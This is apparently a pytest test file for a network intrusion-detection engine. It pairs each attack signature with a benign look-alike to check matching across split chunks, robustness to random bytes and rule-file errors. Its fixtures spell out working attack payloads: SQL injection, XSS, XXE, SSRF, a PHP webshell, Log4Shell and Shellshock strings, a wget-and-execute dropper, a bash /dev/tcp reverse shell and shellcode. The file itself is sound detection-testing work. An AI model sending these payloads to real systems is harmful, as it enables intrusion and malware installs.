"""Signature rules: each family beside its benign look-alike, split payloads, hostile bytes, broken files."""

from __future__ import annotations

import os
import random
import threading
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.detect.rules import MAX_STREAMS, RuleDetector
from engine.paths import RULES
from engine.types import Detection, Direction, FiveTuple, Flow, FlowUpdate, Party, UpdateReason
from tests.factories import five_tuple, flow, update

DETECTOR = RuleDetector(RULES)
EVENT_CLASSES = frozenset(
    {
        "trojan", "webshell", "web_exploit", "deserialisation", "sql_injection", "xss", "command_injection", "dos",
        "file_inclusion", "ssrf", "xxe", "brute_force", "weak_password", "scan", "c2_beacon", "dns_tunnel", "mining",
        "ransomware", "phishing_download", "exfiltration", "lateral_movement", "privilege_escalation",
        "vulnerability_exploit",
    }
)  # fmt: skip


def _get(target: str, *headers: str) -> bytes:
    lines = (f"GET {target} HTTP/1.1", "Host: shop.example", "User-Agent: Mozilla/5.0", *headers)
    return "\r\n".join((*lines, "", "")).encode()


def _post(body: str, target: str = "/api") -> bytes:
    lines = (f"POST {target} HTTP/1.1", "Host: shop.example", f"Content-Length: {len(body)}", "", body)
    return "\r\n".join(lines).encode()


def _inspect(chunks: Iterable[bytes], direction: Direction = Direction.TO_SERVER, **changes: Any) -> list[Detection]:
    """Return what the detector says of a flow that carries the chunks in one direction."""
    found: list[Detection] = []
    sent = b""
    for chunk in chunks:
        head = ((sent + chunk)[:512], b"") if direction is Direction.TO_SERVER else (b"", (sent + chunk)[:512])
        current = flow(**({"head": head, "app": ""} | changes))
        found += DETECTOR.inspect(update(current, chunk=chunk, direction=direction, offset=len(sent)))
        sent += chunk
    DETECTOR.inspect(update(flow(**changes), UpdateReason.END, direction=None, chunk=b""))
    return found


def _labels(payload: bytes, direction: Direction = Direction.TO_SERVER, **changes: Any) -> set[str]:
    return {found.label for found in _inspect([payload], direction, **changes)}


REQUESTS = {
    "sqli.union": (
        _get("/p?id=1%27+UNION/**/SELECT+user,pass+FROM+users--+-"),
        _get("/p?q=credit+union+select+committee"),
    ),
    "sqli.tautology": (_get("/p?id=1%27%20OR%20%271%27=%271"), _get("/p?q=rock+and+roll+or+jazz")),
    "sqli.delay": (_get("/p?id=1;WAITFOR+DELAY+%270:0:5%27"), _get("/p?q=how+to+sleep+(8+hours)")),
    "sqli.function": (_get("/p?id=extractvalue(1,concat(0x7e,version()))"), _get("/p?q=concat+strings+in+python")),
    "sqli.subquery": (
        _get("/p?id=1+AND+EXISTS(SELECT+1+FROM+information_schema.tables)"),
        _get("/p?q=select+a+table+from+our+shop"),
    ),
    "sqli.comment": (_post("user=admin'--+&pass=x"), _post("name=O'Brien&note=it's -- fine")),
    "xss.script": (_get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), _get("/s?q=javascript+tutorial+script")),
    "xss.handler": (_get("/s?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"), _get("/s?on=1&one=2&q=%3Cb%3Ehi%3C/b%3E")),
    "xss.uri": (_get("/s?u=javascript:alert(document.domain)"), _get("/s?u=https://javascript.example/alert")),
    "xss.markup": (_get("/s?q=%3Ciframe+src=//evil.example%3E"), _post("html=<p>Hello <b>world</b></p>")),
    "file.traversal": (_get("/f?p=..%252f..%252f..%252fapp.conf"), _get("/css/../img/logo.png")),
    "file.target": (_get("/f?p=/etc/passwd"), _get("/docs/etc-and-so-on/password-reset")),
    "file.wrapper": (_get("/f?p=php://filter/convert.base64-encode/resource=x"), _get("/php/filter?input=1")),
    "file.secret_probe": (_get("/.env"), _get("/environment")),
    "xxe.entity": (
        _post('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'),
        _post('<?xml version="1.0"?><a>entity system</a>'),
    ),
    "ssrf.metadata": (_get("/r?u=http://169.254.169.254/latest/meta-data/"), _get("/r?u=http://169.254.1.7/latest")),
    "ssrf.scheme": (_get("/r?u=gopher://10.0.0.1:6379/_INFO"), _get("/login?next=https%3A%2F%2Flocalhost%2Fhome")),
    "command.injection": (_get("/ping?ip=1.1.1.1;cat+/etc/issue"), _get("/s?q=cats+and+dogs;sort=asc")),
    "command.separator": (_get("/ping?ip=%3Bhostnamectl%3B"), _get("/s?a=1;b=2;c=3")),
    "code.template": (_get("/s?q={{7*7}}"), _get("/t?name=${USERNAME}&x={value}")),
    "code.expression": (_get("/x?redirect:${%23context[%22x%22]}"), _get("/doc?page=java+language+context")),
    "deserialise.java": (_post("data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), _post("data=iVBORw0KGgoAAAANSUhEUgAA")),
    "deserialise.object": (_post('d=O:8:"Evil_Obj":1:{s:1:"a";s:1:"b";}'), _post('{"O": 8, "note": "a:1"}')),
    "webshell.upload": (
        _post("<?php system($_GET['c']); ?>", "/upload.php"),
        _post("I like PHP and its system of modules"),
    ),
    "webshell.use": (_get("/img/x.php?cmd=whoami"), _get("/run?cmd=start&id=7")),
    "log4shell.jndi": (
        _get("/", "X-Api: ${${lower:j}ndi:${::-l}dap://198.51.100.7/a}"),
        _get("/", "X-Api: ${version}"),
    ),
    "exploit.shellshock": (
        _get("/cgi-bin/a", "Referer: () { :; }; /bin/true"),
        _get("/a", "Referer: f() { return 1 }"),
    ),
    "exploit.php_rce": (
        _get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        _get("/blog/phpunit-eval-explained"),
    ),
    "exploit.java_rce": (
        _get("/a.action", "Content-Type: %{(#x='y')}"),
        _get("/a.action", "Content-Type: text/html; charset=utf-8"),
    ),
    "exploit.appliance": (_get("/vpn/../vpns/cfg/smb.conf"), _get("/vpn/portal.html")),
    "exploit.router": (
        _post("XWebPageName=diag&diag_action=ping&dest_host=a", "/GponForm/x"),
        _post("host=example.org&action=save"),
    ),
    "download.run": (_get("/x?c=cd+/tmp;wget+http://198.51.100.7/a.sh;sh+a.sh"), _get("/x?q=how+to+use+wget+and+curl")),
    "shell.reverse": (_get("/x?c=bash+-i+>%26+/dev/tcp/198.51.100.7/4444+0>%261"), _get("/x?q=/dev/tcp+explained")),
    "scanner.agent": (_get("/").replace(b"Mozilla/5.0", b"sqlmap/1.8"), _get("/blog/sqlmap-review")),
    "scanner.probe": (_get("/nice%20ports%2C/Tri%6Eity.txt%2ebak"), _get("/nice/ports.txt")),
    "scanner.callback": (_get("/", "X-Forwarded-For: abc.oast.fun"), _get("/toast.fun")),
    "c2.framework": (
        _get("/news.php", "Cookie: session=q83vEjRWeJASNFZ4kBI0VniQEjQ="),
        _get("/news.php", "Cookie: lang=en"),
    ),
    "botnet.request": (_get("/bins/mirai.mips"), _get("/download/manual-mips.pdf")),
}
STREAMS = {
    "miner.stratum": (
        b'{"id":1,"method":"mining.subscribe","params":[]}\n',
        b'{"id":1,"method":"eth_call","params":[]}\n',
    ),
    "botnet.telnet_loader": (
        b"enable\r\nsystem\r\nshell\r\n/bin/busybox ECCHI\r\n",
        b"enable\r\nshow running-config\r\n",
    ),
    "shell.session": (b"uid=0(root) gid=0(root) groups=0(root)\n", b"uid=0&gid=0 are numbers of root\n"),
    "rat.protocol": (b"152\x00ll|'|'|SGFjS2Vk|'|'|HOST|'|'|", b"a|b|c|'quoted'|d"),
    "exploit.service": (
        b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n",
        b"*2\r\n$3\r\nGET\r\n$3\r\ndir\r\n",
    ),
    "exploit.shellcode": (b"\x31\xc0\x50h//shh/bin\x89\xe3", b"#!/bin/sh\necho //shell/bin\n"),
    "java.gadget": (
        b"\xac\xed\x00\x05sr\x002org.apache.commons.collections4.functors.X",
        b"\xac\xed\x00\x05sr\x00\x0fjava.rmi.Remote",
    ),
}
ANSWERS = {
    "log4shell.reply": (
        b"0x\x04\rjavaClassName1\x05\x04\x03foo\x04\x0cjavaCodeBase1",
        b"0x\x04\x02cn1\x05\x04\x03foo objectClass",
    ),
    "rat.stage": (
        b"\x00\x10\x02\x00MZ" + bytes(60) + b"This program cannot be run in DOS mode",
        b"MZ is the mark of a DOS program",
    ),
    "download.dropper": (
        b"#!/bin/sh\ncd /tmp || cd /var/run;\nwget http://198.51.100.7/a.mips; chmod 777 a.mips; ./a.mips\n",
        b"#!/bin/sh\nset -e\ncurl -fsSL https://get.example.org/tool -o tool\nchmod +x tool\n",
    ),
    "botnet.irc": (b":m!m@h PRIVMSG #b :.udpflood 198.51.100.7 80\r\n", b":m!m@h PRIVMSG #b :I read of a udpflood\r\n"),
}
CASES = [
    pytest.param(label, direction, *pair, id=label)
    for direction, table in (
        (Direction.TO_SERVER, REQUESTS),
        (Direction.TO_SERVER, STREAMS),
        (Direction.TO_CLIENT, ANSWERS),
    )
    for label, pair in table.items()
]


@pytest.mark.parametrize(("label", "direction", "attack", "look_alike"), CASES)
def test_an_attack_is_named_and_its_look_alike_is_not(
    label: str, direction: Direction, attack: bytes, look_alike: bytes
) -> None:
    assert label in _labels(attack, direction)
    assert not _labels(look_alike, direction)


@pytest.mark.parametrize(("label", "direction", "attack", "look_alike"), CASES)
def test_an_attack_split_anywhere_over_two_chunks_is_found(
    label: str, direction: Direction, attack: bytes, look_alike: bytes
) -> None:
    missed = [
        cut
        for cut in range(1, len(attack))
        if label not in {found.label for found in _inspect([attack[:cut], attack[cut:]], direction)}
    ]
    assert not missed


def test_a_pattern_across_chunks_late_in_a_stream_is_found_at_its_place() -> None:
    prefix = b"A" * 3000
    found = _inspect([prefix + b"x ${jn", b"di:ldap://a/} y"])
    assert [(one.label, one.spans[0].offset) for one in found if one.label == "log4shell.jndi"] == [
        ("log4shell.jndi", 3002)
    ]


def test_a_rule_speaks_once_for_a_flow_and_direction() -> None:
    request = REQUESTS["log4shell.jndi"][0]
    assert [found.label for found in _inspect([request] * 5)].count("log4shell.jndi") == 1


def test_a_flow_that_ended_is_forgotten_and_may_be_reported_anew() -> None:
    request = REQUESTS["xss.script"][0]
    assert _labels(request) == _labels(request)
    assert len(DETECTOR) == 0


def test_datagrams_are_judged_one_by_one() -> None:
    udp = replace(flow(), five_tuple=FiveTuple("203.0.113.9", 40000, "192.0.2.1", 53, "udp"))
    found = [DETECTOR.inspect(update(udp, chunk=half, offset=at)) for at, half in ((0, b"${jn"), (4, b"di:ldap://a}"))]
    DETECTOR.inspect(update(udp, UpdateReason.IDLE))
    assert not any("${" in one.reason for half in found for one in half)
    assert not found[0]


def test_an_encoded_match_points_at_the_request_line() -> None:
    request = REQUESTS["xss.script"][0]
    (found,) = [one for one in _inspect([request]) if one.label == "xss.script"]
    assert found.spans[0][1:] == (0, request.index(b"\r\n"))
    assert b"%3Cscript%3E" in found.excerpt


def test_an_excerpt_holds_the_match_and_at_most_256_bytes() -> None:
    request = _get("/", "X: " + "a" * 900 + "${jndi:ldap://a/}" + "b" * 900)
    (found,) = [one for one in _inspect([request]) if one.label == "log4shell.jndi"]
    assert b"${jndi:" in found.excerpt
    assert len(found.excerpt) == 256


def test_heartbleed_is_told_from_an_honest_heartbeat() -> None:
    def tls(record: bytes) -> set[str]:
        hello = b"\x16\x03\x01\x00\x05hello"
        return {found.label for found in _inspect([hello, record], app="tls")}

    assert "exploit.heartbleed" in tls(b"\x18\x03\x02\x00\x03\x01\x40\x00")
    assert tls(b"\x18\x03\x02\x00\x23\x01\x00\x10" + bytes(32)) == {"exploit.heartbeat"}


def test_encrypted_bytes_are_not_searched() -> None:
    secret = b"\x17\x03\x03\x00\x40" + b"${jndi:ldap://a/}"
    assert not _inspect([b"\x16\x03\x01\x00\x05hello", secret, b"${jndi:ldap://a/}"], app="tls")


def test_a_database_answering_sql_is_no_injection() -> None:
    assert not _labels(b"\x03SELECT a FROM b UNION SELECT 1, 2 FROM information_schema.tables -- x")


def test_a_reverse_shell_accuses_the_end_that_listens() -> None:
    (found,) = _inspect([STREAMS["shell.session"][0]])
    assert found.attacker is Party.RESPONDER


@settings(deadline=None, max_examples=150)
@given(st.lists(st.binary(min_size=1, max_size=300), max_size=6), st.sampled_from(list(Direction)))
def test_hostile_bytes_never_raise(chunks: list[bytes], direction: Direction) -> None:
    _inspect(chunks, direction)


def test_random_bytes_are_silent() -> None:
    noise = random.Random(7)
    assert not [found for _ in range(400) for found in _inspect([noise.randbytes(1400)])]


def test_the_number_of_streams_is_bounded() -> None:
    detector = RuleDetector(RULES)
    for number in range(MAX_STREAMS + 10):
        detector.inspect(update(_numbered(number), chunk=b"x", offset=0))
    assert len(detector) == MAX_STREAMS


def _numbered(number: int) -> Flow:
    return replace(flow(five_tuple()), id=str(number), app="quic")


def test_each_thread_has_a_scanner_of_its_own() -> None:
    seen: list[set[str]] = []
    threads = [threading.Thread(target=lambda: seen.append(_labels(REQUESTS["file.target"][0]))) for _ in range(2)]
    for thread in threads:
        thread.start()
        thread.join()
    assert seen == [_labels(REQUESTS["file.target"][0])] * 2


def test_every_rule_has_complete_metadata_and_an_id_of_its_own() -> None:
    signatures = list(DETECTOR.signatures.values())
    assert len({one.label for one in signatures}) == len(signatures)
    assert all(one.event_class in EVENT_CLASSES and one.attack_ids and 0 < one.score <= 1 for one in signatures)
    assert {one.direction for one in signatures} <= {"to_server", "to_client", "any"}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        pytest.param("rule a {\n  condition:\n    nonsense\n}\n", 3, id="syntax"),
        pytest.param('\nrule a {\n  meta:\n    id = "a.b"\n  condition:\n    http\n}\n', 2, id="metadata"),
        pytest.param('rule a {\n  strings:\n    $a = /.*a.*/s\n  condition:\n    $a\n}\n', 3, id="slow pattern"),
    ],
)  # fmt: skip
def test_a_broken_rule_file_is_named_with_its_line(tmp_path: Path, text: str, line: int) -> None:
    (tmp_path / "broken.yar").write_text(text)
    with pytest.raises(ValueError, match=rf"broken\.yar, line {line}"):
        RuleDetector(tmp_path)


def test_a_pipe_among_the_rules_is_refused_and_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.yar")
    with pytest.raises(ValueError, match=r"pipe\.yar is not a regular file"):
        RuleDetector(tmp_path)


def test_the_version_changes_with_the_rules(tmp_path: Path) -> None:
    (tmp_path / "one.yar").write_text((RULES / "tunnels.yar").read_text())
    first = RuleDetector(tmp_path).version
    (tmp_path / "one.yar").write_text((RULES / "scanners.yar").read_text())
    assert RuleDetector(tmp_path).version != first


def test_updates_without_payload_are_ignored() -> None:
    for reason in (UpdateReason.NEW, UpdateReason.QUIET, UpdateReason.WINDOW):
        assert not DETECTOR.inspect(FlowUpdate(flow(), reason, 0.0))


def test_a_program_from_a_bare_address_is_told_from_one_of_a_named_host() -> None:
    answer = b"HTTP/1.1 200 OK\r\n\r\n\x7fELF\x02\x01\x01" + bytes(60)
    fetched = {"head": (_get("/a"), b"")}
    assert _labels(answer, Direction.TO_CLIENT, name="198.51.100.7:8000", **fetched) == {"download.bare_address"}
    assert not _labels(answer, Direction.TO_CLIENT, name="deb.example.org", **fetched)


@pytest.mark.parametrize(
    ("payload", "port", "label"),
    [
        pytest.param(b"\x45\x00\x00\x18" + bytes(20), 8, {"icmp.tunnel"}, id="a packet in an echo"),
        pytest.param(b"\x45\x00\x00\x18" + bytes(20), 3, set(), id="a packet quoted in an error"),
        pytest.param(bytes(range(8, 56)), 8, set(), id="ping"),
    ],
)
def test_a_tunnel_in_icmp_is_told_from_ping_and_errors(payload: bytes, port: int, label: set[str]) -> None:
    ends = FiveTuple("203.0.113.9", port, "192.0.2.1", 0, "icmp")
    assert _labels(payload, five_tuple=ends) == label


@pytest.mark.parametrize(
    ("name", "label"),
    [
        pytest.param(b"\x28" + b"0123456789abcdef" * 2 + b"01234567" + b"\x20" + b"ab" * 16, {"dns.tunnel"}, id="hex"),
        pytest.param(b"\x28" + b"SGVsbG8gd29ybGQhSGVsbG8+d29ybGQhSGVsbG8=", {"dns.tunnel"}, id="Base64"),
        pytest.param(b"\x3f" + b"q" * 63 + b"\x3e" + b"z" * 62, {"dns.tunnel"}, id="two full labels"),
        pytest.param(b"\x20" + b"0a1b2c3d4e5f60718293a4b5c6d7e8f9", set(), id="one content hash"),
        pytest.param(b"\x03www", set(), id="a plain name"),
    ],
)
def test_a_dns_tunnel_is_told_from_names(name: bytes, label: set[str]) -> None:
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x07example\x03org\x00\x00\x10\x00\x01"
    ends = FiveTuple("203.0.113.9", 40000, "192.0.2.1", 53, "udp")
    assert _labels(question, five_tuple=ends) == label
